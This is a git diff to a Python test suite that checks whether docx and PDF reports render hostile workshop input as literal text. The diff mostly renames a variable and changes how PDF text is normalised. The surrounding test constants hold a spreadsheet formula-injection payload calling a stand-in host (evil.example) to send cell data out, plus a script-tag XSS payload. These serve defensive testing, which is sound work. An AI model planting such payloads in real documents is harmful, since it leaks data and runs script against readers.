@@ -29,6 +29,7 @@ from consult.services.votes import cast_vote
 from consult.services.workshops import create_workshop, open_workshop, update_settings
 from tests.conftest import PASSWORD, make_participant
 from tests.reports.conftest import run
+from tests.reports.test_pdf import words
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 SCRIPT = "<script>alert(1)</script>"
@@ -212,9 +213,9 @@ def test_the_markdown_renders_what_was_typed_as_plain_readable_text(hostile):
 
 def test_the_docx_and_pdf_carry_the_text_literally(hostile, tmp_path):
     document = docx.Document(io.BytesIO(render(hostile, "docx", lang="fr", public=False)))
-    words = [p.text for p in document.paragraphs]
-    words += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
-    joined = "\n".join(words)
+    paragraphs = [p.text for p in document.paragraphs]
+    paragraphs += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
+    joined = "\n".join(paragraphs)
     for text in [*TYPED, *RECOMMENDATION.values(), TITLE, VENUE, *AXES, *PRINCIPLES, REASON]:
         assert text in joined, text
     if shutil.which("pdftotext") is None:
@@ -222,6 +223,7 @@ def test_the_docx_and_pdf_carry_the_text_literally(hostile, tmp_path):
     path = tmp_path / "report.pdf"
     path.write_bytes(render(hostile, "pdf", lang="fr", public=False))
     out = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
-    flat = re.sub(r"\s+", "", out)
+    # As a reader copies it: whitespace runs read as one space, none removed (tests/reports/test_pdf.py: words).
+    text_read = words(out)
     for text in (FORMULA, SCRIPT, IMG, JS_LINK, IMAGE, "@SUM(1+1)"):
-        assert re.sub(r"\s+", "", text) in flat, text
+        assert words(text).strip() in text_read, text
